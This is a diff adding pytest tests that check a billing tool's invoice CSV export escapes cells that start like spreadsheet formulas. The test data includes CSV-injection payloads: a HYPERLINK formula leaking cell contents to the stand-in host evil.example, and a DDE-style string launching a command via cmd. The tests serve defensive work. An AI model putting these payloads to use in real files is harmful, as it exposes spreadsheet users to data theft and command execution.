@@ -1,12 +1,16 @@
 """`invoice export`: the plain CSV and the QuickBooks Online import CSV of a batch."""
 
 import csv
+import io
 import json
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
+from sqlalchemy import text
 
-from billing.invoice_export import CSV_COLUMNS, QBO_COLUMNS
+from billing.csv_cells import spreadsheet_safe
+from billing.invoice_export import CSV_COLUMNS, QBO_COLUMNS, write_csv
 
 # The storage layer is not the subject here: one test runs on every database, the rest on SQLite.
 sqlite_only = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@@ -137,3 +141,68 @@ def test_unknown_batch_is_refused(drafted, tmp_path, file_format):
     assert result.exit_code == 1
     assert "no invoice batch 7" in result.stderr
     assert not target.exists()
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+@sqlite_only
+def test_a_billto_name_like_a_formula_is_exported_as_text(approved, ats, tmp_path):
+    with ats.begin() as connection:
+        connection.execute(
+            text("UPDATE ats_billto SET name = :name WHERE id = 110"), {"name": HOSTILE_NAME}
+        )
+    target = tmp_path / "batch.csv"
+
+    assert approved("invoice", "export", "1", "--format", "qbo-csv", str(target)).exit_code == 0
+
+    _header, first, second = read_rows(target)
+    assert first[1] == second[1] == "'" + HOSTILE_NAME
+    assert (first[8], first[9]) == ("12500.00", "12500.00")
+
+
+def a_document(**fields):
+    line = {
+        "product_code": "STD_DH", "description": "Placement fee", "quantity": "1",
+        "rate": "-4400.00", "amount": "-4400.00", "source_type": "placement",
+        "source_id": 5001, "fee_id": 1, "seq": 1,
+    }  # fmt: skip
+    document = {
+        "number": "CM-000001", "batch_id": 2, "billto_id": 110, "currency": "USD",
+        "invoice_date": "2023-07-10", "due_date": "2023-08-09", "terms": "NET30",
+        "po_number": None, "status": "approved", "kind": "credit_memo", "credits": "INV-000001",
+        "total": "-4400.00", "lines": [line],
+    }  # fmt: skip
+    for name, value in fields.items():
+        (line if name in line else document)[name] = value
+    return document
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_text_cell_starting_like_a_formula_is_quoted_but_amounts_stay_numbers(start):
+    hostile = f"{start}cmd|' /C calc'!A0"
+    out = io.StringIO(newline="")
+
+    write_csv([a_document(po_number=hostile, description=hostile, product_code=hostile)], out)
+
+    _header, row = list(csv.reader(io.StringIO(out.getvalue())))
+    cells = dict(zip(CSV_COLUMNS, row, strict=True))
+    assert cells["po_number"] == cells["description"] == cells["product_code"] == "'" + hostile
+    assert (cells["invoice_total"], cells["rate"], cells["amount"]) == ("-4400.00",) * 3
+    assert cells["quantity"] == "1"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("-4400.00", "-4400.00"),
+        ("+12.5", "+12.5"),
+        ("-5 hours", "'-5 hours"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("Acme = Engineering", "Acme = Engineering"),
+        (Decimal("-1.00"), Decimal("-1.00")),
+        (7, 7),
+    ],
+)
+def test_spreadsheet_safe_quotes_formulas_only(value, cell):
+    assert spreadsheet_safe(value) == cell
